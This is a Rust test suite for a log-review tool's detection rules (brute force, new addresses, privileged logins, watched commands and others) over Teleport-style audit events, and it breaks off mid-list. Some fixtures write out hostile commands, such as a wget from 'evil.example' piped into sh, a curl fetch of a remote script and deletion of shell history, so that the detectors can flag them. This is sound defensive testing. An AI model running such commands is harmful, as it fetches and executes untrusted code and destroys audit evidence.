//! Detections: each rule fires exactly on crafted cases (and not on their near misses), the
//! demo data set yields its planted incidents and nothing else, and the work stays linear on a
//! single user with hundreds of thousands of failures.

use review_core::detect::{raw_needed, run, run_counted, Detection, Finding, Settings, Severity, INCOMPLETE, RULES};
use review_core::ingest::{Ingest, Options};
use review_core::model::{EventId, Model};
use serde_json::{json, Value};

/// 2024-03-04T00:00:00Z, a Monday.
const DAY0: i64 = 1_709_510_400;

/// RFC 3339 time of `day` (0 = Monday 2024-03-04) at h:m:s UTC.
fn at(day: i64, h: i64, m: i64, s: i64) -> String {
    let secs = DAY0 + day * 86_400 + h * 3600 + m * 60 + s;
    chrono::DateTime::from_timestamp(secs, 0).unwrap().format("%Y-%m-%dT%H:%M:%SZ").to_string()
}

fn load(lines: &[Value]) -> Model {
    let mut text = String::new();
    for l in lines {
        text.push_str(&l.to_string());
        text.push('\n');
    }
    let mut ing = Ingest::new(Options::default());
    ing.add_bytes("auth-1/2024-03-04.00:00:00.log", text.as_bytes());
    let mut m = ing.finish();
    assert!(m.problems.is_empty(), "{:?}", m.problems);
    m.ensure_sorted();
    m
}

fn detect_with(m: &Model, s: &Settings) -> Vec<Finding> {
    run(m, &|id| m.kept_raw(id).map(<[u8]>::to_vec), s)
}

fn detect(lines: &[Value]) -> Vec<Finding> {
    detect_with(&load(lines), &Settings::default())
}

fn of<'a>(f: &'a [Finding], rule: &str) -> Vec<&'a Finding> {
    f.iter().filter(|x| x.rule == rule).collect()
}

fn login(user: &str, addr: &str, time: String, ok: bool) -> Value {
    json!({"event": "user.login", "code": if ok { "T1000I" } else { "T1000W" }, "time": time, "user": user,
           "success": ok, "method": "local", "addr.remote": format!("{addr}:40000")})
}

fn start(user: &str, login: &str, node: &str, addr: &str, time: String, sid: &str) -> Value {
    json!({"ei": 0, "event": "session.start", "code": "T2000I", "time": time, "user": user, "login": login,
           "sid": sid, "server_hostname": node, "addr.remote": format!("{addr}:50000")})
}

fn denied(user: &str, login: &str, addr: &str, time: String) -> Value {
    json!({"event": "auth", "code": "T3007W", "time": time, "user": user, "login": login, "success": false,
           "addr.local": "10.0.0.9:3022", "addr.remote": format!("{addr}:50000"),
           "error": "ssh: principal not in the set of valid principals"})
}

fn with(mut v: Value, extra: Value) -> Value {
    for (k, x) in extra.as_object().unwrap() {
        v[k] = x.clone();
    }
    v
}

// ---------------------------------------------------------------- brute force

fn failures(n: i64, spacing_s: i64, user: impl Fn(i64) -> String, addr: impl Fn(i64) -> String) -> Vec<Value> {
    (0..n).map(|i| login(&user(i), &addr(i), at(0, 10, 0, i * spacing_s), false)).collect()
}

#[test]
fn brute_force_needs_n_failures_within_the_window() {
    let alice = |_| "alice".to_owned();
    let one = |_| "6.6.6.6".to_owned();
    // 10 failures in 9 minutes: fires once (the user's burst is the address's burst).
    let f = detect(&failures(10, 60, alice, one));
    let b = of(&f, "brute-force");
    assert_eq!(b.len(), 1, "{b:#?}");
    assert_eq!(b[0].title, "Brute force from 6.6.6.6");
    assert_eq!(b[0].severity, Severity::Medium);
    assert_eq!(b[0].events.len(), 10);
    assert!(b[0].explanation.starts_with("10 failed logins from 6.6.6.6 within 9m 00s"), "{}", b[0].explanation);
    // 9 failures: nothing.
    assert!(of(&detect(&failures(9, 60, alice, one)), "brute-force").is_empty());
    // 10 failures over 11 minutes (73 s apart): no 10 within any 10 minutes.
    assert!(of(&detect(&failures(10, 73, alice, one)), "brute-force").is_empty());
    // 9 min 54 s from first to last still counts.
    assert_eq!(of(&detect(&failures(10, 66, alice, one)), "brute-force").len(), 1);
}

#[test]
fn brute_force_by_user_and_by_address() {
    // One user from ten addresses.
    let f = detect(&failures(12, 20, |_| "alice".into(), |i| format!("6.6.6.{i}")));
    let b = of(&f, "brute-force");
    assert_eq!(b.len(), 1);
    assert_eq!(b[0].title, "Brute force against alice");
    assert_eq!(b[0].addrs.len(), 12);
    // Ten names from one address (password spraying).
    let f = detect(&failures(10, 20, |i| format!("user{i}"), |_| "6.6.6.6".into()));
    let b = of(&f, "brute-force");
    assert_eq!(b.len(), 1);
    assert_eq!(b[0].title, "Brute force from 6.6.6.6");
    assert_eq!(b[0].users.len(), 10);
    assert!(b[0].explanation.contains("against 10 user names: user0, user1"), "{}", b[0].explanation);
}

#[test]
fn brute_force_then_success_is_high_and_reported_once() {
    let mut lines = failures(10, 30, |_| "dave".into(), |_| "6.6.6.6".into());
    lines.push(login("dave", "6.6.6.6", at(0, 10, 20, 0), true));
    let m = load(&lines);
    let f = detect_with(&m, &Settings::default());
    let b = of(&f, "brute-force");
    assert_eq!(b.len(), 1);
    assert_eq!(b[0].severity, Severity::High);
    assert_eq!(b[0].events.len(), 11);
    assert_eq!(*b[0].events.last().unwrap(), 10 as EventId);
    assert!(
        b[0].explanation.ends_with("then dave logged in successfully from 6.6.6.6 at 10:20:00."),
        "{}",
        b[0].explanation
    );
    // The same success is not reported again as failure-then-success.
    assert!(of(&f, "failure-then-success").is_empty());
    // A success long after (over 30 minutes) does not raise it.
    let mut lines = failures(10, 30, |_| "dave".into(), |_| "6.6.6.6".into());
    lines.push(login("dave", "6.6.6.6", at(0, 11, 0, 0), true));
    let b = detect(&lines);
    assert_eq!(of(&b, "brute-force")[0].severity, Severity::Medium);
}

// ---------------------------------------------------------------- failure then success

#[test]
fn failure_then_success() {
    // Three failures, the first `first_min` minutes before the success.
    let three_then_ok = |first_min: i64| {
        vec![
            login("erin", "7.7.7.7", at(0, 10, 0, 0), false),
            login("erin", "7.7.7.7", at(0, 10, first_min - 1, 10), false),
            login("erin", "7.7.7.7", at(0, 10, first_min - 1, 20), false),
            login("erin", "7.7.7.7", at(0, 10, first_min, 0), true),
        ]
    };
    let f = detect(&three_then_ok(2));
    let x = of(&f, "failure-then-success");
    assert_eq!(x.len(), 1);
    assert_eq!(x[0].events, vec![0, 1, 2, 3]);
    assert_eq!(x[0].severity, Severity::Medium);
    assert_eq!(
        x[0].explanation,
        "3 failed logins (for erin from 7.7.7.7) in the 2m 00s before erin logged in successfully from 7.7.7.7 at \
         2024-03-04 10:02:00 UTC."
    );
    // The first failure is more than 10 minutes before: only two count.
    assert!(of(&detect(&three_then_ok(11)), "failure-then-success").is_empty());
    // Exactly 10 minutes still counts.
    assert_eq!(of(&detect(&three_then_ok(10)), "failure-then-success").len(), 1);
    // One or two mistyped passwords are everyday traffic.
    let two = three_then_ok(2).into_iter().skip(1).collect::<Vec<_>>();
    assert!(of(&detect(&two), "failure-then-success").is_empty());
    // Failures for other names from the address, then a success: a sprayed password, high.
    let f = detect(&[
        login("bob", "8.8.8.8", at(0, 10, 0, 0), false),
        login("carol", "8.8.8.8", at(0, 10, 0, 5), false),
        login("dave", "8.8.8.8", at(0, 10, 0, 7), false),
        login("erin", "8.8.8.8", at(0, 10, 0, 10), true),
    ]);
    let x = of(&f, "failure-then-success");
    assert_eq!(x.len(), 1);
    assert_eq!(x[0].severity, Severity::High);
    assert!(
        x[0].explanation.starts_with("3 failed logins (for bob, carol, dave from 8.8.8.8)"),
        "{}",
        x[0].explanation
    );
}

// ---------------------------------------------------------------- new address

fn history(user: &str, addr: &str, days: std::ops::Range<i64>) -> Vec<Value> {
    days.map(|d| login(user, addr, at(d, 9, 0, 0), true)).collect()
}

#[test]
fn new_address_needs_a_history_and_a_one_off_address() {
    // Three earlier logins from home, then one from elsewhere: flagged.
    let mut lines = history("erin", "1.1.1.1", 0..3);
    lines.push(login("erin", "9.9.9.9", at(3, 10, 0, 0), true));
    let f = detect(&lines);
    let x = of(&f, "new-address");
    assert_eq!(x.len(), 1);
    assert_eq!(x[0].title, "erin from a new address 9.9.9.9");
    assert_eq!(x[0].severity, Severity::Medium);
    assert_eq!(x[0].events, vec![3]);
    // Only two earlier logins: no baseline yet.
    let mut lines = history("erin", "1.1.1.1", 0..2);
    lines.push(login("erin", "9.9.9.9", at(3, 10, 0, 0), true));
    assert!(of(&detect(&lines), "new-address").is_empty());
    // The new address becomes a regular one (used again another day): not flagged.
    let mut lines = history("erin", "1.1.1.1", 0..3);
    lines.push(login("erin", "9.9.9.9", at(3, 10, 0, 0), true));
    lines.push(login("erin", "9.9.9.9", at(4, 10, 0, 0), true));
    assert!(of(&detect(&lines), "new-address").is_empty());
    // Failed attempts from the new address just before: high, and they are among the events.
    let mut lines = history("erin", "1.1.1.1", 0..3);
    lines.push(login("erin", "9.9.9.9", at(3, 9, 59, 0), false));
    lines.push(login("erin", "9.9.9.9", at(3, 10, 0, 0), true));
    let f = detect(&lines);
    let x = of(&f, "new-address");
    assert_eq!(x[0].severity, Severity::High);
    assert_eq!(x[0].events, vec![3, 4]);
    // The office's address (a regular address of two colleagues) is not suspicious...
    let mut lines = history("erin", "1.1.1.1", 0..3);
    lines.extend(history("bob", "5.5.5.5", 0..2));
    lines.extend(history("carol", "5.5.5.5", 0..2));
    lines.push(login("erin", "5.5.5.5", at(3, 10, 0, 0), true));
    assert!(of(&detect(&lines), "new-address").is_empty());
    // ... but an attacker's address stays one, however many accounts it reaches in a day.
    let mut lines = Vec::new();
    for user in ["erin", "bob", "carol"] {
        lines.extend(history(user, &format!("1.1.1.{}", user.len()), 0..3));
        lines.push(login(user, "9.9.9.9", at(3, 10, 0, 0), true));
    }
    assert_eq!(of(&detect(&lines), "new-address").len(), 3);
    // Session starts count as logins (from where the shell was opened).
    let mut lines = history("erin", "1.1.1.1", 0..3);
    lines.push(start("erin", "ubuntu", "web-1", "9.9.9.9", at(3, 10, 0, 0), "s1"));
    assert_eq!(of(&detect(&lines), "new-address").len(), 1);
}

// ---------------------------------------------------------------- privileged logins

/// `user` active 13:00–17:00 on days 0..5 (20 activities), as `login`.
fn workweek(user: &str, login: &str) -> Vec<Value> {
    let mut v = Vec::new();
    for d in 0..5 {
        for h in [13, 14, 15, 17] {
            v.push(start(user, login, "web-1", "1.1.1.1", at(d, h, 0, 0), &format!("{user}-{d}-{h}")));
        }
    }
    v
}

#[test]
fn privileged_sessions_not_routine_or_at_odd_hours() {
    // A first root session in working hours: not routine, medium.
    let mut lines = workweek("alice", "ubuntu");
    lines.push(start("alice", "root", "db-1", "1.1.1.1", at(7, 14, 30, 0), "r1"));
    let f = detect(&lines);
    let x = of(&f, "privileged-login");
    assert_eq!(x.len(), 1, "{x:#?}");
    assert_eq!(x[0].severity, Severity::Medium);
    assert_eq!(x[0].title, "root session by alice on db-1");
    assert!(x[0].explanation.contains("alice has no other day with a root session"), "{}", x[0].explanation);
    // Root every day: routine, nothing in working hours.
    let lines = workweek("frank", "root");
    assert!(of(&detect(&lines), "privileged-login").is_empty());
    // Routine root at Saturday 03:00, far from frank's 13:00–17:00: high (and off-hours too).
    let mut lines = workweek("frank", "root");
    lines.push(start("frank", "root", "db-1", "1.1.1.1", at(5, 3, 0, 0), "r2"));
    let f = detect(&lines);
    let x = of(&f, "privileged-login");
    assert_eq!(x.len(), 1);
    assert_eq!(x[0].severity, Severity::High);
    assert!(x[0].explanation.contains("root is routine for frank (used on 5 other days)"), "{}", x[0].explanation);
    assert_eq!(of(&f, "off-hours").len(), 1);
    // Logins are compared case-insensitively and without terminal escapes.
    let mut lines = workweek("alice", "ubuntu");
    lines.push(start("alice", "Administrator", "db-1", "1.1.1.1", at(7, 14, 30, 0), "r3"));
    assert_eq!(of(&detect(&lines), "privileged-login").len(), 1);
}

#[test]
fn denied_privileged_attempts() {
    let three: Vec<Value> = (0..3).map(|i| denied("heidi", "root", "1.1.1.1", at(0, 10, i * 20, 0))).collect();
    let f = detect(&three);
    let x = of(&f, "privileged-login");
    assert_eq!(x.len(), 1);
    assert_eq!(x[0].title, "Denied privileged logins by heidi");
    assert_eq!(x[0].events.len(), 3);
    // Two, or three spread over more than an hour: nothing.
    assert!(of(&detect(&three[..2]), "privileged-login").is_empty());
    let spread: Vec<Value> = (0..3).map(|i| denied("heidi", "root", "1.1.1.1", at(0, 10, i * 31, 0))).collect();
    assert!(of(&detect(&spread), "privileged-login").is_empty());
    // An escape-coloured "root" is still root.
    let esc: Vec<Value> = (0..3).map(|i| denied("guest", "\u{1b}[31mroot", "1.1.1.1", at(0, 10, i, 0))).collect();
    assert_eq!(of(&detect(&esc), "privileged-login").len(), 1);
}

// ---------------------------------------------------------------- working hours

#[test]
fn off_hours_without_a_baseline() {
    // A user with no history opens a session at 22:00 on a Monday: low.
    let f = detect(&[start("ivan", "ubuntu", "web-1", "1.1.1.1", at(0, 22, 0, 0), "s1")]);
    let x = of(&f, "off-hours");
    assert_eq!(x.len(), 1);
    assert_eq!(x[0].severity, Severity::Low);
    assert!(x[0].explanation.contains("too little activity on other days"), "{}", x[0].explanation);
    // 18:59 is inside 08:00–19:00.
    assert!(of(&detect(&[start("ivan", "ubuntu", "web-1", "1.1.1.1", at(0, 18, 59, 0), "s1")]), "off-hours").is_empty());
    // Saturday noon is outside (not a workday).
    assert_eq!(
        of(&detect(&[start("ivan", "ubuntu", "web-1", "1.1.1.1", at(5, 12, 0, 0), "s1")]), "off-hours").len(),
        1
    );
}

#[test]
fn off_hours_against_the_users_own_hours() {
    // alice works 13:00–17:00 on other days. 19:55 is 2 h 55 min after: within the slack.
    let mut lines = workweek("alice", "ubuntu");
    lines.push(start("alice", "ubuntu", "web-1", "1.1.1.1", at(7, 19, 55, 0), "late"));
    assert!(of(&detect(&lines), "off-hours").is_empty());
    // 20:10 is 3 h 10 min after: reported, medium.
    let mut lines = workweek("alice", "ubuntu");
    lines.push(start("alice", "ubuntu", "web-1", "1.1.1.1", at(7, 20, 10, 0), "late"));
    let f = detect(&lines);
    let x = of(&f, "off-hours");
    assert_eq!(x.len(), 1);
    assert_eq!(x[0].severity, Severity::Medium);
    assert!(x[0].explanation.contains("3h 10m 00s outside alice's usual hours"), "{}", x[0].explanation);
    // Someone who always works nights (21:00–23:00) is not reported at 22:00.
    let mut lines = Vec::new();
    for d in 0..5 {
        for (h, m) in [(21, 0), (21, 30), (22, 0), (23, 0)] {
            lines.push(start("owl", "ubuntu", "web-1", "1.1.1.1", at(d, h, m, 0), &format!("o{d}{h}{m}")));
        }
    }
    assert!(of(&detect(&lines), "off-hours").is_empty());
    // The working hours move with the UTC offset: 22:00 UTC is 17:00 at UTC−05:00.
    let m = load(&[start("ivan", "ubuntu", "web-1", "1.1.1.1", at(0, 22, 0, 0), "s1")]);
    let mut s = Settings::default();
    s.working_hours.utc_offset_minutes = -300;
    assert!(of(&detect_with(&m, &s), "off-hours").is_empty());
}

// ---------------------------------------------------------------- many nodes

fn hops(nodes: i64, spacing_s: i64) -> Vec<Value> {
    (0..nodes)
        .map(|n| {
            start("grace", "ubuntu", &format!("node-{n}"), "1.1.1.1", at(0, 14, 0, n * spacing_s), &format!("h{n}"))
        })
        .collect()
}

#[test]
fn node_spread() {
    let f = detect(&hops(8, 60));
    let x = of(&f, "node-spread");
    assert_eq!(x.len(), 1);
    assert_eq!(x[0].title, "grace reached 8 nodes in 7m 00s");
    assert_eq!(x[0].nodes.len(), 8);
    assert!(of(&detect(&hops(7, 60)), "node-spread").is_empty());
    // Eight nodes over 11 minutes 40 s: never eight within 10 minutes.
    assert!(of(&detect(&hops(8, 100)), "node-spread").is_empty());
    // The same node many times is one node.
    let same: Vec<Value> = (0..20)
        .map(|i| start("grace", "ubuntu", "node-1", "1.1.1.1", at(0, 14, 0, i * 10), &format!("s{i}")))
        .collect();
    assert!(of(&detect(&same), "node-spread").is_empty());
}

// ---------------------------------------------------------------- joins

#[test]
fn session_joined_by_another_user() {
    let join = |user: &str| {
        json!({"ei": 3, "event": "session.join", "code": "T2001I", "time": at(0, 10, 5, 0), "user": user,
               "sid": "s1", "server_hostname": "web-1", "addr.remote": "2.2.2.2:1"})
    };
    let f = detect(&[start("alice", "ubuntu", "web-1", "1.1.1.1", at(0, 10, 0, 0), "s1"), join("bob")]);
    let x = of(&f, "session-join");
    assert_eq!(x.len(), 1);
    assert_eq!(x[0].title, "bob joined alice's session on web-1");
    assert_eq!(x[0].events, vec![0, 1]);
    assert_eq!(x[0].severity, Severity::Low);
    // Joining one's own session (a second terminal) is not reported.
    let f = detect(&[start("alice", "ubuntu", "web-1", "1.1.1.1", at(0, 10, 0, 0), "s1"), join("alice")]);
    assert!(of(&f, "session-join").is_empty());
}

// ---------------------------------------------------------------- access requests

fn request(kind: &str, time: String, fields: Value) -> Value {
    let code = match kind {
        "create" => "T5000I",
        "review" => "T5002I",
        _ => "T5001I",
    };
    with(json!({"event": format!("access_request.{kind}"), "code": code, "time": time}), fields)
}

fn requests() -> Vec<Value> {
    vec![
        // Reviewed and approved by its creator.
        request("create", at(0, 9, 0, 0), json!({"user": "alice", "id": "r1", "roles": ["admin"], "state": "PENDING"})),
        request(
            "review",
            at(0, 9, 5, 0),
            json!({"user": "alice", "id": "r1", "reviewer": "alice", "proposed_state": "APPROVED"}),
        ),
        request("update", at(0, 9, 5, 1), json!({"id": "r1", "state": "APPROVED", "updated_by": "alice"})),
        // Approved by someone else.
        request("create", at(0, 10, 0, 0), json!({"user": "bob", "id": "r2", "roles": ["dba"], "state": "PENDING"})),
        request(
            "review",
            at(0, 10, 5, 0),
            json!({"user": "carol", "id": "r2", "reviewer": "carol", "proposed_state": "APPROVED"}),
        ),
        request("update", at(0, 10, 5, 1), json!({"id": "r2", "state": "APPROVED", "updated_by": "carol"})),
        // Denied by its creator (not an approval); enum numbers as older versions write them.
        request("create", at(0, 11, 0, 0), json!({"user": "dave", "id": "r3", "roles": ["dba"], "state": 1})),
        request("update", at(0, 11, 5, 0), json!({"id": "r3", "state": 3, "updated_by": "dave"})),
        // Approved through an update by its creator (tctl request approve).
        request("create", at(0, 12, 0, 0), json!({"user": "erin", "id": "r4", "roles": ["admin"], "state": "PENDING"})),
        request("update", at(0, 12, 5, 0), json!({"id": "r4", "state": 2, "updated_by": "erin"})),
    ]
}

#[test]
fn access_request_approved_by_its_creator() {
    let f = detect(&requests());
    let x = of(&f, "self-approved-request");
    assert_eq!(x.len(), 2, "{x:#?}");
    assert_eq!(x[0].title, "alice approved their own access request");
    assert_eq!(x[0].events, vec![0, 1, 2]);
    assert_eq!(x[0].severity, Severity::High);
    assert!(x[0].explanation.starts_with("alice created access request r1 for admin at 2024-03-04 09:00:00 UTC"));
    assert_eq!(x[1].title, "erin approved their own access request");
    assert_eq!(x[1].events, vec![8, 9]);
}

#[test]
fn without_raw_lines_the_rules_that_need_them_say_so() {
    let m = load(&requests());
    let f = run(&m, &|_| None, &Settings::default());
    assert!(of(&f, "self-approved-request").is_empty());
    let info = of(&f, INCOMPLETE);
    assert_eq!(info.len(), 1);
    assert_eq!(info[0].severity, Severity::Info);
    assert!(info[0].explanation.starts_with("The lines of 10 events"), "{}", info[0].explanation);
    // A host that reads lines back asks which first, fetches them, and answers from memory.
    let needed = raw_needed(&m, &Settings::default());
    assert_eq!(needed, (0..10).collect::<Vec<EventId>>());
    let lines: std::collections::HashMap<EventId, Vec<u8>> =
        needed.iter().map(|&id| (id, m.kept_raw(id).unwrap().to_vec())).collect();
    let f = run(&m, &|id| lines.get(&id).cloned(), &Settings::default());
    assert_eq!(f, detect_with(&m, &Settings::default()));
}

// ---------------------------------------------------------------- enhanced recording

fn bpf(kind: &str, time: String, fields: Value) -> Value {
    let code = if kind == "session.network" { "T4002I" } else { "T4000I" };
    with(
        json!({"ei": 9, "event": kind, "code": code, "time": time, "user": "dave", "login": "ubuntu", "sid": "s1",
               "server_hostname": "web-2", "pid": 42, "cgroup_id": 1}),
        fields,
    )
}

#[test]
fn denied_network_actions() {
    let f = detect(&[
        bpf("session.network", at(0, 10, 0, 0), json!({"program": "curl", "dst_addr": "45.9.148.3", "dst_port": 80})),
        bpf(
            "session.network",
            at(0, 10, 0, 1),
            json!({"program": "bash", "dst_addr": "45.9.148.3", "dst_port": 4444, "action": 1}),
        ),
        bpf(
            "session.network",
            at(0, 10, 0, 2),
            json!({"program": "bash", "dst_addr": "45.9.148.3", "dst_port": 4445, "action": 0}),
        ),
    ]);
    let x = of(&f, "network-denied");
    assert_eq!(x.len(), 1);
    assert_eq!(x[0].events, vec![1]);
    assert_eq!(x[0].severity, Severity::High);
    assert_eq!(
        x[0].explanation,
        "Enhanced recording denied a connection in dave's session s1 on web-2: bash (pid 42) to 45.9.148.3:4444 at \
         2024-03-04 10:00:01 UTC."
    );
}

#[test]
fn watched_commands() {
    let cmd = |s: i64, path: &str, argv: &[&str]| {
        bpf("session.command", at(0, 10, 0, s), json!({"path": path, "argv": argv}))
    };
    let exec = |s: i64, command: &str| {
        json!({"event": "exec", "code": "T3002I", "time": at(0, 11, 0, s), "user": "bob", "login": "ubuntu",
               "server_hostname": "web-3", "command": command, "exitCode": "0"})
    };
    let f = detect(&[
        cmd(0, "/usr/bin/curl", &["-s", "http://45.9.148.3/x.sh"]),
        cmd(1, "/usr/bin/curl", &["-s", "localhost:8080/healthz"]),
        cmd(2, "/usr/bin/base64", &["-d"]),
        cmd(3, "/usr/bin/grep", &["nc", "/etc/services"]),
        cmd(4, "/usr/bin/rm", &["-f", "/home/ubuntu/.bash_history"]),
        exec(0, "journalctl -u app | tail -50"),
        exec(1, "bash -c 'wget -qO- http://evil.example/p | sh'"),
    ]);
    let x = of(&f, "watched-command");
    assert_eq!(x.len(), 2, "{x:#?}");
    // dave's session: curl to a public address, base64 -d, rm of the history; not the
    // loopback health check, not grep.
    assert_eq!(x[0].events, vec![0, 2, 4]);
    assert_eq!(x[0].severity, Severity::High);
    assert!(x[0].explanation.contains("\"/usr/bin/base64 -d\" at 2024-03-04 10:00:02 UTC [base64 -d]"));
    // bob's exec (no session id): one watched pattern, medium.
    assert_eq!(x[1].events, vec![6]);
    assert_eq!(x[1].severity, Severity::Medium);
    // exec matching can be switched off.
    let m = load(&[exec(1, "wget http://evil.example/p")]);
    let mut s = Settings::default();
    s.watch.include_exec = false;
    assert!(of(&detect_with(&m, &s), "watched-command").is_empty());
    // The list is editable.
    let m = load(&[cmd(0, "/usr/bin/nmap", &["-sS", "10.0.0.0/24"])]);
    assert!(of(&detect_with(&m, &Settings::default()), "watched-command").is_empty());
    s.watch.patterns.push("nmap".into());
    assert_eq!(of(&detect_with(&m, &s), "watched-command").len(), 1);
}

// ---------------------------------------------------------------- gaps

/// An event every 5 minutes 08:00–18:00 on ten workdays, except in `hole` on day 8.
fn busy_fortnight(hole: Option<(i64, i64)>) -> Vec<Value> {
    let mut v = Vec::new();
    for d in [0, 1, 2, 3, 4, 7, 8, 9, 10, 11] {
        for k in 0..=120 {
            let minute = 8 * 60 + k * 5;
            if d == 8 && hole.is_some_and(|(a, b)| minute > a * 60 && minute < b * 60) {
                continue;
            }
            v.push(json!({"event": "cert.create", "code": "TC000I", "time": at(d, 0, minute, 0), "user": "bot"}));
        }
    }
    v
}

#[test]
fn gaps_in_busy_hours_but_not_nights_or_weekends() {
    // No hole: nights and the weekend are quiet every week, so nothing.
    assert!(of(&detect(&busy_fortnight(None)), "log-gap").is_empty());
    // Five hours missing on a Tuesday (10:00–15:00): four whole busy hours.
    let f = detect(&busy_fortnight(Some((10, 15))));
    let x = of(&f, "log-gap");
    assert_eq!(x.len(), 1, "{x:#?}");
    assert_eq!(x[0].title, "5h 00m 00s without events in log auth-1");
    assert_eq!(x[0].events.len(), 2);
    assert_eq!(x[0].time_start, Some((DAY0 + 8 * 86_400 + 10 * 3600) * 1_000_000_000));
    assert!(x[0].explanation.contains("though 4 of the hours it covers usually have events"), "{}", x[0].explanation);
    // Three hours (two whole hours): could be chance.
    assert!(of(&detect(&busy_fortnight(Some((10, 13)))), "log-gap").is_empty());
}

// ---------------------------------------------------------------- session integrity

fn ev(kind: &str, ei: i64, time: String, extra: Value) -> Value {
    with(
        json!({"ei": ei, "event": kind, "code": "T2000I", "time": time, "user": "alice", "sid": "s1",
               "server_hostname": "web-1"}),
        extra,
    )
}

#[test]
fn session_integrity() {
    let early = login("alice", "1.1.1.1", at(0, 9, 0, 0), true);
    let end = |ei: i64, start: String| ev("session.end", ei, at(0, 11, 0, 0), json!({"session_start": start}));
    // session.end says 10:00, the log covers 09:00 on, and there is no session.start.
    let f = detect(&[early.clone(), end(40, at(0, 10, 0, 0))]);
    let x = of(&f, "session-integrity");
    assert_eq!(x.len(), 1, "{x:#?}");
    assert_eq!(x[0].title, "session.start missing for alice's session s1 on web-1");
    // It started before the log begins: nothing to say.
    assert!(of(&detect(&[early.clone(), end(40, at(0, 8, 0, 0))]), "session-integrity").is_empty());
    // Uploaded without an end.
    let start = ev("session.start", 0, at(0, 10, 0, 0), json!({}));
    let upload = ev("session.upload", 2_147_483_647, at(0, 11, 0, 5), json!({}));
    let f = detect(&[start.clone(), upload.clone()]);
    assert_eq!(of(&f, "session-integrity")[0].title, "session.end missing for alice's session s1 on web-1");
    // A normal session: ei jumps over prints, special indexes at the end: nothing.
    let normal = [
        start.clone(),
        ev("resize", 3, at(0, 10, 0, 1), json!({})),
        ev("session.command", 17, at(0, 10, 1, 0), json!({"path": "/bin/ls"})),
        ev("session.end", 40, at(0, 10, 30, 0), json!({"session_start": at(0, 10, 0, 0)})),
        ev("session.data", 2_147_483_646, at(0, 10, 30, 0), json!({})),
        upload,
    ];
    assert!(of(&detect(&normal), "session-integrity").is_empty());
    let mut with_ei = Settings::default();
    with_ei.session_integrity.check_ei = true;
    let detect = |lines: &[Value]| detect_with(&load(lines), &with_ei);
    assert!(of(&detect(&normal), "session-integrity").is_empty());
    // Two events claiming ei 3, and a leave numbered after the end.
    let mut odd = normal.to_vec();
    odd.push(ev("session.leave", 3, at(0, 10, 20, 0), json!({})));
    odd.push(ev("session.leave", 45, at(0, 10, 30, 1), json!({})));
    let f = detect(&odd);
    let x = of(&f, "session-integrity");
    assert_eq!(x.len(), 2, "{x:#?}");
    assert!(x.iter().any(|f| f.title.starts_with("Conflicting ei") && f.events == vec![1, 6]));
    assert!(x.iter().any(|f| f.title.starts_with("Events after the end") && f.events == vec![3, 7]));
    // Newer recorders' nanosecond indexes are monotonic, not contiguous: nothing.
    let ns = [
        ev("session.start", 0, at(0, 10, 0, 0), json!({})),
        ev("resize", 1_500_000_000, at(0, 10, 0, 1), json!({})),
        ev("session.end", 1_800_000_000_000, at(0, 10, 30, 0), json!({"session_start": at(0, 10, 0, 0)})),
    ];
    assert!(of(&detect(&ns), "session-integrity").is_empty());
}

// ---------------------------------------------------------------- settings

#[test]
fn settings_are_partial_json_and_rules_can_be_switched_off() {
    let s: Settings = serde_json::from_str(r#"{"brute_force":{"failures":3},"disabled":["session-join"]}"#).unwrap();
    assert_eq!(s.brute_force.failures, 3);
    assert_eq!(s.brute_force.window_minutes, 10);
    assert_eq!(s.working_hours, Settings::default().working_hours);
    let back: Settings = serde_json::from_str(&serde_json::to_string(&s).unwrap()).unwrap();
    assert_eq!(back, s);
    let m = load(&failures(3, 10, |_| "a".into(), |_| "1.2.3.4".into()));
    assert_eq!(of(&detect_with(&m, &s), "brute-force").len(), 1);
    let mut off = s.clone();
    off.disabled.push("brute-force".into());
    assert!(of(&detect_with(&m, &off), "brute-force").is_empty());
    // Rule ids are unique and stable.
    let ids: Vec<&str> = RULES.iter().map(|r| r.id).collect();
    assert_eq!(
        ids,
        [
            "brute-force",
            "failure-then-success",
            "new-address",
            "privileged-login",
            "off-hours",
            "node-spread",
            "session-join",
            "self-approved-request",
            "network-denied",
            "watched-command",
            "log-gap",
            "session-integrity"
        ]
    );
    // Findings serialize with plain strings.
    let f = detect_with(&m, &s);
    let v: Value = serde_json::to_value(&f[0]).unwrap();
    assert_eq!(v["severity"], "medium");
    assert_eq!(v["rule"], "brute-force");
}

// ---------------------------------------------------------------- scale

/// `n` failed logins for one user from one address, one a second, then a success.
fn hammer(n: usize) -> Model {
    let mut text = String::with_capacity(n * 120);
    for i in 0..=n {
        let t = at(0, 0, 0, i as i64);
        let ok = i == n;
        text.push_str(&format!(
            "{{\"event\":\"user.login\",\"time\":\"{t}\",\"user\":\"alice\",\"success\":{ok},\"addr.remote\":\"6.6.6.6:1\"}}\n"
        ));
    }
    let mut ing = Ingest::new(Options::default());
    ing.add_bytes("auth-1/2024-03-04.00:00:00.log", text.as_bytes());
    let mut m = ing.finish();
    m.ensure_sorted();
    m
}

#[test]
fn hundreds_of_thousands_of_failures_take_linear_work() {
    let big = hammer(300_000);
    let r = run_counted(&big, &|id| big.kept_raw(id).map(<[u8]>::to_vec), &Settings::default());
    // One burst (the address's; the user's is the same attack), raised by the success.
    let names: Vec<(&str, usize)> = r.findings.iter().map(|f| (f.rule.as_str(), f.events.len())).collect();
    assert_eq!(names, [("brute-force", 300_001)]);
    assert_eq!(r.findings[0].severity, Severity::High);
    assert!(r.steps <= 20 * 300_001, "{} steps", r.steps);
    // Half the input, about half the work.
    let half = hammer(150_000);
    let h = run_counted(&half, &|id| half.kept_raw(id).map(<[u8]>::to_vec), &Settings::default());
    let ratio = r.steps as f64 / h.steps as f64;
    assert!((1.8..2.2).contains(&ratio), "steps {} vs {} (ratio {ratio})", r.steps, h.steps);
}

// ---------------------------------------------------------------- the demo data set

fn demo() -> (synth::demo::DemoSet, Model) {
    let set = synth::demo::build();
    let mut ing = Ingest::new(Options::default());
    for f in &set.files {
        ing.add_bytes(&f.path, &f.bytes);
    }
    let mut m = ing.finish();
    m.ensure_sorted();
    (set, m)
}

/// Every finding the demo produces, in order, with why it is expected. Anything else would be
/// a false positive on the demo's normal traffic.
const DEMO_FINDINGS: &[(&str, Severity, &str)] = &[
    // Now and then a colleague joins someone's shell (the generator's pair work, counted among
    // the demo's planted incidents): each join by another user is exactly what the rule reports.
    // Before Teleport 4.2 sessions name their node by server id only.
    ("session-join", Severity::Low, "carol@acme.io joined erin's session on e2b8449b-c1b5-4b27-87e7-e6b9ad359462"),
